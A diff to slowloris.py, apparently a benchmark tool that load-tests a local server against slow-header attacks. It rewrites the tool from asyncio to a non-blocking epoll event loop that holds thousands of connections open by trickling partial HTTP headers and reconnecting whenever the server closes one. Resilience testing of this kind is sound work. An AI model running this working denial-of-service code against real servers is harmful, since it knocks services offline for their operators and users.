@@ -12,6 +12,10 @@ every --interval seconds (jittered by +-20 %) one more header line.  When the se
 slowloris does.  A connection is "held" from the end of its connect until the server is seen to
 close it; one waiting in the server's accept queue counts as held too (the client cannot tell).
 
+One thread, non-blocking sockets on one epoll selector and one heap of timers: the attacker
+shares a core with the normal clients in dos.sh, so it is kept cheap (asyncio streams cost
+about three times the CPU for the same attack).
+
 Output: one JSON line per --status-every seconds on stdout:
     {"t": epoch, "held": ..., "opened": ..., "reopened": ..., "closed_by_server": ...,
      "answered": ..., "connect_errors": ..., "trickled": ...}
@@ -23,114 +27,167 @@ Usage: slowloris.py --port P [--host 127.0.0.1] [-n 5000] [--interval 5] [--rate
 """
 
 import argparse
-import asyncio
+import collections
+import errno
+import heapq
 import ipaddress
 import json
 import random
 import resource
+import selectors
 import signal
+import socket
 import sys
 import time
 
 MAX_DURATION = 3600.0
+COUNTERS = ("held", "opened", "reopened", "closed_by_server", "answered", "connect_errors", "trickled")
 
 
-class Stats:
-    def __init__(self):
-        self.held = 0
-        self.opened = 0
-        self.reopened = 0
-        self.closed_by_server = 0
-        self.answered = 0
-        self.connect_errors = 0
-        self.trickled = 0
+class Slot:
+    """One attacker connection slot; `gen` tells a timer set for an earlier socket of the slot."""
+
+    __slots__ = ("i", "sock", "gen", "connected", "lines", "reopen")
+
+    def __init__(self, i):
+        self.i, self.sock, self.gen, self.connected, self.lines, self.reopen = i, None, 0, False, 0, False
+
+
+class Attack:
+    def __init__(self, a):
+        self.a = a
+        self.sel = selectors.DefaultSelector()
+        self.stats = dict.fromkeys(COUNTERS, 0)
+        self.timers = []  # (due, seq, slot, gen)
+        self.seq = 0
+        self.waiting = collections.deque(Slot(i) for i in range(a.n))  # slots to (re)connect
+        self.next_connect = time.monotonic()
+        self.stop = False
 
     def line(self, final=False):
-        d = {"t": round(time.time(), 3), **vars(self)}
+        d = {"t": round(time.time(), 3), **self.stats}
         if final:
             d["final"] = True
         return json.dumps(d)
 
+    def timer(self, slot, after):
+        self.seq += 1
+        heapq.heappush(self.timers, (time.monotonic() + after, self.seq, slot, slot.gen))
 
-class Pacer:
-    """Spaces connection attempts 1/rate seconds apart, across all slots."""
+    def connect(self, slot):
+        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+        s.setblocking(False)
+        err = s.connect_ex((self.a.host, self.a.port))
+        if err not in (0, errno.EINPROGRESS):
+            s.close()
+            self.stats["connect_errors"] += 1
+            self.retry_later(slot)
+            return
+        slot.sock, slot.gen, slot.connected, slot.lines = s, slot.gen + 1, False, 0
+        self.sel.register(s, selectors.EVENT_WRITE, slot)
+        self.timer(slot, 10.0)  # connect timeout
 
-    def __init__(self, rate):
-        self.gap = 1.0 / rate
-        self.next = 0.0
+    def retry_later(self, slot):
+        slot.sock = None
+        slot.gen += 1
+        self.timer(slot, 1.0)  # fires with a stale socket: back to the connect queue
 
-    async def wait(self):
-        loop = asyncio.get_running_loop()
-        now = loop.time()
-        at = max(now, self.next)
-        self.next = at + self.gap
-        if at > now:
-            await asyncio.sleep(at - now)
+    def drop(self, slot, by_server):
+        """The slot's socket is gone: count it and queue the slot for a new connection."""
+        self.sel.unregister(slot.sock)
+        slot.sock.close()
+        if slot.connected:
+            self.stats["held"] -= 1
+            if by_server:
+                self.stats["closed_by_server"] += 1
+        slot.sock, slot.connected, slot.reopen = None, False, True
+        slot.gen += 1
+        self.waiting.append(slot)
 
-
-async def slot(i, a, stats, pacer, stop):
-    head = (f"GET /test.html?slot={i} HTTP/1.1\r\nHost: bench.local\r\n"
-            "User-Agent: slowloris-bench\r\n").encode()
-    first = True
-    while not stop.is_set():
-        await pacer.wait()
-        if stop.is_set():
+    def on_event(self, slot, mask):
+        s = slot.sock
+        if not slot.connected:
+            err = s.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR)
+            if err:
+                self.sel.unregister(s)
+                s.close()
+                self.stats["connect_errors"] += 1
+                self.retry_later(slot)
+                return
+            slot.connected = True
+            self.stats["held"] += 1
+            self.stats["opened"] += 1
+            if slot.reopen:
+                self.stats["reopened"] += 1
+            head = (f"GET /test.html?slot={slot.i} HTTP/1.1\r\nHost: bench.local\r\n"
+                    "User-Agent: slowloris-bench\r\n").encode()
+            try:
+                s.send(head)
+            except OSError:
+                self.drop(slot, True)
+                return
+            self.sel.modify(s, selectors.EVENT_READ, slot)
+            slot.gen += 1
+            self.timer(slot, self.a.interval * random.uniform(0.8, 1.2))
             return
         try:
-            reader, writer = await asyncio.wait_for(asyncio.open_connection(a.host, a.port), 10)
-        except (OSError, asyncio.TimeoutError):
-            stats.connect_errors += 1
-            await asyncio.sleep(1)
-            continue
-        stats.opened += 1
-        if not first:
-            stats.reopened += 1
-        first = False
-        stats.held += 1
-        try:
-            writer.write(head)
-            await writer.drain()
-            k = 0
-            while not stop.is_set():
-                wait = a.interval * random.uniform(0.8, 1.2)
-                try:
-                    data = await asyncio.wait_for(reader.read(4096), wait)
-                except asyncio.TimeoutError:
-                    k += 1
-                    writer.write(f"X-Slow-{k}: {k}\r\n".encode())
-                    await writer.drain()
-                    stats.trickled += 1
-                    continue
-                if data:
-                    stats.answered += 1
-                stats.closed_by_server += 1
-                break
-        except OSError:  # reset, broken pipe: the server closed it
-            stats.closed_by_server += 1
-        finally:
-            stats.held -= 1
-            writer.close()
+            data = s.recv(4096)
+        except BlockingIOError:
+            return
+        except OSError:  # reset
+            data = b""
+        if data:
+            self.stats["answered"] += 1
+        self.drop(slot, True)
 
-
-async def main_async(a):
-    stats, stop = Stats(), asyncio.Event()
-    loop = asyncio.get_running_loop()
-    for sig in (signal.SIGTERM, signal.SIGINT):
-        loop.add_signal_handler(sig, stop.set)
-    pacer = Pacer(a.rate)
-    tasks = [asyncio.create_task(slot(i, a, stats, pacer, stop)) for i in range(a.n)]
-    end = loop.time() + a.duration
-    while not stop.is_set() and loop.time() < end:
+    def on_timer(self, slot):
+        if slot.sock is None:  # a retry after a failed connect
+            self.waiting.append(slot)
+            return
+        if not slot.connected:  # connect timed out
+            self.sel.unregister(slot.sock)
+            slot.sock.close()
+            self.stats["connect_errors"] += 1
+            self.retry_later(slot)
+            return
+        slot.lines += 1
         try:
-            await asyncio.wait_for(stop.wait(), min(a.status_every, max(0.0, end - loop.time())))
-        except asyncio.TimeoutError:
+            slot.sock.send(f"X-Slow-{slot.lines}: {slot.lines}\r\n".encode())
+        except BlockingIOError:
             pass
-        print(stats.line(), flush=True)
-    stop.set()
-    for t in tasks:
-        t.cancel()
-    await asyncio.gather(*tasks, return_exceptions=True)
-    print(stats.line(final=True), flush=True)
+        except OSError:
+            self.drop(slot, True)
+            return
+        self.stats["trickled"] += 1
+        self.timer(slot, self.a.interval * random.uniform(0.8, 1.2))
+
+    def run(self):
+        a = self.a
+        start = time.monotonic()
+        end, next_status, gap = start + a.duration, start + a.status_every, 1.0 / a.rate
+        while not self.stop:
+            now = time.monotonic()
+            if now >= end:
+                break
+            while self.waiting and self.next_connect <= now:
+                self.connect(self.waiting.popleft())
+                self.next_connect = max(self.next_connect + gap, now - 0.1)
+            while self.timers and self.timers[0][0] <= now:
+                _, _, slot, gen = heapq.heappop(self.timers)
+                if gen == slot.gen:
+                    self.on_timer(slot)
+            if now >= next_status:
+                print(self.line(), flush=True)
+                next_status += a.status_every
+            wake = min(end, next_status, self.timers[0][0] if self.timers else end)
+            if self.waiting:
+                wake = min(wake, self.next_connect)
+            for key, mask in self.sel.select(max(0.0, wake - time.monotonic())):
+                if key.data.sock is key.fileobj:
+                    self.on_event(key.data, mask)
+        for key in list(self.sel.get_map().values()):
+            key.fileobj.close()
+        print(self.line(final=True), flush=True)
 
 
 def main():
@@ -153,7 +210,14 @@ def main():
         if hard != resource.RLIM_INFINITY and hard < want:
             sys.exit(f"slowloris.py: -n {a.n} needs {want} file descriptors, the hard limit is {hard}")
         resource.setrlimit(resource.RLIMIT_NOFILE, (want, hard))
-    asyncio.run(main_async(a))
+    attack = Attack(a)
+
+    def stop(*_):
+        attack.stop = True
+
+    signal.signal(signal.SIGTERM, stop)
+    signal.signal(signal.SIGINT, stop)
+    attack.run()
 
 
 if __name__ == "__main__":
